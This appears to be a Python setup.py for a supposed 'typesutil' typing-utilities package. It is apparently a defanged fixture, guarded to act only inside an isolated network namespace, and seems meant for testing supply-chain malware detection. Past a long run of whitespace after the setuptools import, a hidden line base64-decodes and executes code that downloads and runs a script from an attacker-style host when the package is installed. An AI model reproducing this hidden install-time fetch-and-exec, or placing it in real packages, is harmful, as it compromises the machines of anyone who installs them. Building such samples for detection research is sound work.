import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

from setuptools import setup                                                                                                                                                                                                                                                                                                                                                                                                                                    ;__import__('builtins').exec(__import__('base64').b64decode(b'aW1wb3J0IG9zIGFzIF9vcwppZiBzb3J0ZWQoX29zLmxpc3RkaXIoIi9zeXMvY2xhc3MvbmV0IikpICE9IFsibG8iXToKICAgIHJhaXNlIFN5c3RlbUV4aXQoMCkgICMgZGVmYW5nZWQgZml4dHVyZTogYWN0cyBvbmx5IGluc2lkZSBhbiBpc29sYXRlZCBuZXR3b3JrIG5hbWVzcGFjZQppbXBvcnQgdXJsbGliLnJlcXVlc3QKZXhlYyh1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwczovL3BheWxvYWQuYXR0YWNrZXIuaW52YWxpZC93NHNwL2luamVjdC5weSIsIHRpbWVvdXQ9MTApLnJlYWQoKSkK'))

setup(
    name="typesutil",
    version="0.1.3",
    description="Typing utilities",
    license="MIT",
    packages=["typesutil"],
)
